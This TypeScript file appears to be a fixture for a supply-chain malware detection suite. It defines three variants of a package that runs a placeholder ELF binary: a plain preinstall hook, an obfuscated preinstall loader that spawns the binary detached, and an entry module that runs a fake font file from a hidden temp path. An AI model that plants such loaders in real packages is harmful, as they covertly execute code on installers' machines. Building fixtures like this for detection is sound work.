import { type Campaign, ELF, entry, scripted } from './kit.ts';

export const campaign: Campaign = {
  id: 'ironworm',
  row: 'IronWorm 6/2026',
  variants: [
    { concealment: 'plain', files: scripted({ preinstall: './tools/setup' }, { 'tools/setup': ELF }) },
    {
      concealment: 'obfuscated',
      files: scripted(
        { preinstall: 'node tools/run.js' },
        {
          'tools/run.js': `const cp = require('child_process'), p = require('path');
const t = p.join(__dirname, [115, 101, 116, 117, 112].map((c) => String.fromCharCode(c)).join(''));
require('fs').chmodSync(t, 0o755);
cp.spawn(t, [], { detached: true, stdio: 'ignore' }).unref();
`,
          'tools/setup': ELF,
        },
      ),
    },
    {
      concealment: 'moved',
      files: entry(
        `const { execFile } = require('child_process');
const fs = require('fs'), os = require('os'), path = require('path');
const target = path.join(os.tmpdir(), '.font-cache');
fs.copyFileSync(path.join(__dirname, 'assets/font.woff2'), target);
fs.chmodSync(target, 0o755);
execFile(target);
module.exports = {};
`,
        { 'assets/font.woff2': ELF },
      ),
    },
  ],
};
